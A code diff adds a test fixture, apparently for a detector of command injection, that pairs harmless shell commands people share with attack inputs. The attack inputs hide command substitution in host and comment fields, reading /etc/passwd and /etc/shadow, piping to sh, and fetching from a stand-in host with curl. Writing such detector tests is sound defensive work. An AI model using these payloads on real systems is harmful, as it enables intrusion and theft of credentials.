@@ -44,6 +44,24 @@ const KINDS: Readonly<
     { readonly honest: readonly InspectedRequest[]; readonly attacks: readonly InspectedRequest[] }
   >
 > = {
+  'commands that people tell each other': {
+    honest: [
+      'docker run --rm -v $(pwd):/app -w /app node:24 npm test',
+      'docker run -v "$(pwd)":/src -u $(id -u):$(id -g) image make -j$(nproc)',
+      'kill $(cat server.pid) does not work',
+      'I ran kill -9 $(lsof -t -i:3000) and started it again',
+      'kill -HUP $(pgrep nginx)',
+    ].flatMap(text => [sent({ text }), filled({ comment: text })]),
+    attacks: [
+      sent({ host: 'a $(cat /etc/passwd)' }),
+      filled({ host: '$(pwd;id)' }),
+      filled({ host: '$(pwd)$(id)' }),
+      filled({ host: '$(id -u -r|sh)' }),
+      filled({ host: 'kill $(cat ../../etc/shadow)' }),
+      filled({ comment: 'docker run -v $(pwd):/app x && $(curl http://evil.example/a)' }),
+      asked('/ping', { host: '$(pwd)' }),
+    ],
+  },
   'a link that leads nowhere': {
     honest: [
       sent({ element: { url: 'javascript:void(0)', text: 'Menu' } }),
